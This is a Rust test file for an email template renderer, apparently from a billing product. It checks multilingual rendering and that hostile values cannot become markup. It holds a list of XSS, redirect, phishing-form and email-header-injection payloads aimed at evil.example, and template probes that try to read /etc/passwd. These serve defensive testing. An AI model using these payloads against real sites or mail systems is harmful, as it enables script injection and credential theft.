//! What templates come to, with friendly and with hostile values.

use expect_test::expect;

use super::*;
use crate::domain::notification::Occasion;
use crate::domain::text::Locale;

fn locale(text: &str) -> Locale {
    text.parse().expect("a locale")
}

fn all() -> impl Iterator<Item = (Occasion, Locale, MailTemplate)> {
    let each = |language: &'static str| {
        let locale = locale(language);
        Occasion::ALL.iter().map(move |it| (*it, locale.clone(), of_house(*it, &locale)))
    };
    ["en", "de", "fr", "es"].into_iter().flat_map(each)
}

/// The same tree with every text another.
fn poisoned(tree: &Tree, poison: &str) -> Tree {
    match tree {
        Tree::Text(_) => poison.into(),
        Tree::Number(_) | Tree::Flag(_) => tree.clone(),
        Tree::List(all) => Tree::List(all.iter().map(|it| poisoned(it, poison)).collect()),
        Tree::Group(all) => {
            let each = |(name, it): (&String, &Tree)| (name.clone(), poisoned(it, poison));
            Tree::Group(all.iter().map(each).collect())
        }
    }
}

/// What a browser would see as structure: names of tags and attributes, in order, and where links
/// lead to by their scheme.
fn skeleton(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for tag in html.split('<').skip(1) {
        let mut outside = String::new();
        let mut quote = None;
        for letter in tag.chars() {
            match (quote, letter) {
                (None, '>') => break,
                (None, '"' | '\'') => quote = Some(letter),
                (None, _) => outside.push(letter),
                (Some(open), _) if open == letter => quote = None,
                (Some(_), _) => {}
            }
        }
        found.push(outside);
    }
    let links = html.match_indices("href=\"").map(|(at, it)| {
        let link = &html[at + it.len()..];
        link.split([':', '"']).next().unwrap_or_default().to_owned()
    });
    found.extend(links.filter(|it| !it.is_empty()));
    found
}

#[test]
fn every_template_of_the_house_renders_in_each_language() {
    for (kind, locale, template) in all() {
        let parts =
            render(&template, &sample()).unwrap_or_else(|it| panic!("{kind} {locale}: {it}"));
        assert!(!parts.subject.is_empty() && !parts.subject.contains('\n'), "{kind} {locale}");
        let has_link = kind == Occasion::OrderConfirmed || parts.text.contains("https://billing");
        assert!(has_link && parts.text.contains("Ann Example"), "{kind} {locale}: {}", parts.text);
        assert!(parts.html.contains("https:&#x2f;&#x2f;billing.example.com"), "{}", parts.html);
        assert!(parts.html.ends_with("</html>\n"), "{kind} {locale}: {}", parts.html);
        for outside in ["<script", "<img", "<link", "@import", "url("] {
            assert!(!parts.html.contains(outside), "{kind} loads something from elsewhere");
        }
    }
}

#[test]
fn an_invoice_is_announced_in_german() {
    let template = of_house(Occasion::InvoiceIssued, &locale("de_AT"));
    let parts = render(&template, &sample()).expect("rendered");
    expect![[r#"
        Rechnung R-2026-000042 über EUR 119.00

        Guten Tag Ann Example,

        Ihre Rechnung für Example Ltd ist da. Sie finden sie online.

        Rechnung: R-2026-000042
        Zeitraum: 1 to 30 November 2026
        Betrag: EUR 119.00
        Bereits beglichen: EUR 100.00
        Zu zahlen: EUR 19.00
        Fällig am: 14 December 2026

        Rechnung ansehen:
        https://billing.example.com/i/0198

        Der Betrag wird eingezogen; Sie brauchen nichts zu tun.

        -- 
        Northwind Cloud
        Northwind Cloud GmbH
        Hafenstr. 1
        20457 Hamburg
        support@northwind.example
    "#]]
    .assert_eq(&format!("{}\n\n{}", parts.subject, parts.text));
}

#[test]
fn an_unknown_language_gets_english() {
    for kind in Occasion::ALL {
        assert_eq!(of_house(*kind, &locale("pl")), of_house(*kind, &locale("en_US")));
    }
}

/// What a template places and asks for, without its words.
fn places(of: &str) -> Vec<&str> {
    let tags = of.match_indices('{').filter_map(|(at, _)| {
        let end = of[at..].find(['}', '"'])?;
        Some(&of[at..at + end]).filter(|it| it.starts_with("{{") || it.starts_with("{%"))
    });
    let mut all: Vec<_> = tags.collect();
    all.sort_unstable();
    all
}

#[test]
fn every_language_places_what_the_others_do() {
    for (kind, locale, template) in all() {
        let english = of_house(kind, &"en".parse().expect("a locale"));
        let parts =
            |it: &MailTemplate| [&it.subject, &it.text, &it.html].map(|it| places(it).join("\n"));
        assert_eq!(parts(&template), parts(&english), "{kind} {locale}");
    }
}

/// What people write into forms to see what happens.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" style=\"background:url(//evil.example)",
    "\" href=\"javascript:alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/\" onclick=\"alert(1)",
    "https://evil.example/'><b>",
    "https://evil.example/><b>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=password>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<!-- --><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7 * 7 }}",
    "{% extends \"layout.html\" %}",
    "{{ brand.address|safe }}",
    "red;background:url(//evil.example)",
    "#fff\" onload=\"alert(1)",
    "#2f5bd7;position:fixed",
    "\u{202e}<b>",
    "＜script＞alert(1)＜/script＞",
    "<\u{0}script>alert(1)</script>",
    "a\r\nBcc: all@example.com",
    "a\n\n<b>",
];

#[test]
fn the_skeleton_shows_what_is_planted() {
    let skeletons = [
        "<p>x</p>",
        "<p><b>x</p>",
        "<p a=\"x\">x</p>",
        "<p a=\"x\" b=\"x\">x</p>",
        "<a href=\"mailto:x\">x</a>",
        "<a href=\"javascript:x\">x</a>",
    ]
    .map(skeleton);
    let different: std::collections::BTreeSet<_> = skeletons.iter().collect();
    assert_eq!(different.len(), skeletons.len());
    assert_eq!(skeleton("<p a=\"x\">x</p>"), skeleton("<p a=\"&lt;b>\">&lt;b></p>"));
}

#[test]
fn no_value_becomes_structure() {
    assert!(PAYLOADS.len() >= 40);
    for (kind, locale, template) in all().filter(|it| {
        it.1.language() == "en" || cfg!(not(debug_assertions)) || it.0 == Occasion::OrderConfirmed
    }) {
        // Three lines, so that an address has its line ends where the poisoned one has some.
        for payload in PAYLOADS {
            let harmless: String =
                payload.chars().map(|it| if it == '\n' { it } else { 'x' }).collect();
            let [bad, good] = [*payload, &harmless]
                .map(|it| render(&template, &poisoned(&sample(), it)).expect("rendered"));
            // A link to somewhere else on the web is a link; to anything else it is none.
            let [found, expected] = [&bad, &good].map(|it| {
                let mut found = skeleton(&it.html);
                found.retain(|it| !it.starts_with("https"));
                found
            });
            assert_eq!(found, expected, "{kind} {locale} {payload:?}");
            assert!(!bad.subject.contains(['\r', '\n']), "{kind} {locale} {payload:?}");
        }
    }
}

fn refusal(source: &str) -> String {
    let template =
        MailTemplate { subject: String::new(), text: source.to_owned(), html: String::new() };
    match render(&template, &sample()) {
        Ok(it) => format!("rendered: {}", it.text),
        Err(it) => it.to_string(),
    }
}

#[test]
#[expect(clippy::too_many_lines, reason = "it is a table")]
fn what_a_template_says_wrong_is_told_with_its_line() {
    let sources = [
        "Dear\n{{ persn.name }}",
        "{{ person.nme }}",
        "{{ person.name",
        "{% if person %}",
        "a\n\n{% set a = 1 %}",
        "{% macro a() %}{% endmacro %}",
        "{%- raw %}{{ x }}{% endraw %}",
        "{% include \"/etc/passwd\" %}",
        "{% extends \"../layout.html\" %}",
        "{% from \"/etc/passwd\" import a %}",
        "{{ person.name ~ person.name }}",
        "{{ \"a\" * 1000000000 }}",
        "{{ person.name|replace(\"a\", \"b\") }}",
        "{{ person.name|safe }}",
        "{{ range(100000) }}",
        "{{ person.name.upper() }}",
        "{{ brand.__class__ }}",
        "{% for a in order.items %}{{ loop(order.items) }}{% endfor %}",
        "{{ order.items }}",
        "{{ \"}}\" ~ person.name }}",
        "{{ \"\\\"}}\" ~ person.name }}",
        "{# {{ #}{% set a = 1 %}",
        "{{ {\"a\": {\"b\": 1}} ~ 1 }}",
        "{{ person.name[0] }}",
        "{% for a in(brand, brand) %}{% endfor %}",
        "{% for a in (brand, brand) %}{% endfor %}",
        "{{ \"a + b\" }} { a } {# ~ #}",
    ];
    let told: String = sources.iter().map(|it| format!("{it:?}\n  {}\n", refusal(it))).collect();
    expect![[r#"
        "Dear\n{{ persn.name }}"
          the text of the template, line 2: undefined value
        "{{ person.nme }}"
          the text of the template, line 1: undefined value
        "{{ person.name"
          the text of the template, line 1: what begins here is not closed
        "{% if person %}"
          the text of the template, line 1: unexpected end of input, expected end of block
        "a\n\n{% set a = 1 %}"
          the text of the template, line 3: `set` is not known; there are if, elif, else, endif, for, endfor, extends, from, block, endblock
        "{% macro a() %}{% endmacro %}"
          the text of the template, line 1: `macro` is not known; there are if, elif, else, endif, for, endfor, extends, from, block, endblock
        "{%- raw %}{{ x }}{% endraw %}"
          the text of the template, line 1: `raw` is not known; there are if, elif, else, endif, for, endfor, extends, from, block, endblock
        "{% include \"/etc/passwd\" %}"
          the text of the template, line 1: `include` is not known; there are if, elif, else, endif, for, endfor, extends, from, block, endblock
        "{% extends \"../layout.html\" %}"
          the text of the template, line 1: template "../layout.html" does not exist
        "{% from \"/etc/passwd\" import a %}"
          the text of the template, line 1: tried to include non-existing template '/etc/passwd'
        "{{ person.name ~ person.name }}"
          the text of the template, line 1: values are placed, not computed: `~` is not known here
        "{{ \"a\" * 1000000000 }}"
          the text of the template, line 1: values are placed, not computed: `*` is not known here
        "{{ person.name|replace(\"a\", \"b\") }}"
          the text of the template, line 1: filter replace is unknown
        "{{ person.name|safe }}"
          the text of the template, line 1: filter safe is unknown
        "{{ range(100000) }}"
          the text of the template, line 1: range is unknown
        "{{ person.name.upper() }}"
          the text of the template, line 1: string has no method named upper
        "{{ brand.__class__ }}"
          the text of the template, line 1: undefined value
        "{% for a in order.items %}{{ loop(order.items) }}{% endfor %}"
          the text of the template, line 1: cannot recurse outside of recursive loop
        "{{ order.items }}"
          the text of the template, line 1: this is a list or group: say what of it is to be shown
        "{{ \"}}\" ~ person.name }}"
          the text of the template, line 1: values are placed, not computed: `~` is not known here
        "{{ \"\\\"}}\" ~ person.name }}"
          the text of the template, line 1: values are placed, not computed: `~` is not known here
        "{# {{ #}{% set a = 1 %}"
          the text of the template, line 1: `set` is not known; there are if, elif, else, endif, for, endfor, extends, from, block, endblock
        "{{ {\"a\": {\"b\": 1}} ~ 1 }}"
          the text of the template, line 1: values are placed, not computed: `{` is not known here
        "{{ person.name[0] }}"
          the text of the template, line 1: values are placed, not computed: `[` is not known here
        "{% for a in(brand, brand) %}{% endfor %}"
          the text of the template, line 1: values are placed, not computed: `(` is not known here
        "{% for a in (brand, brand) %}{% endfor %}"
          the text of the template, line 1: values are placed, not computed: `(` is not known here
        "{{ \"a + b\" }} { a } {# ~ #}"
          rendered: a + b { a } 
    "#]].assert_eq(&told);
}

#[test]
fn a_template_can_neither_run_for_long_nor_fill_the_memory() {
    let mut slow = "{% for a in order.items %}{% for a in order.items %}".to_owned();
    slow += &"{{ brand.name }}".repeat(30_000 / 16);
    slow += "{% endfor %}{% endfor %}";
    let order = vec![Tree::group([]); 100];
    let many = Tree::group([("order", Tree::group([("items", order.into())]))]);
    let values = sample().with(many);
    let rendered = |text: String| {
        let template = MailTemplate { subject: String::new(), text, html: String::new() };
        render(&template, &values).map(|_| ()).map_err(|it| it.what)
    };
    assert_eq!(rendered(slow), Err("engine ran out of fuel".to_owned()));
    let long = format!("{{% for a in order.items %}}{}{{% endfor %}}", "x".repeat(60_000));
    assert!(rendered(long).is_err());
    assert_eq!(rendered("x".repeat(65 * 1024)), Err("it is too long".to_owned()));
}
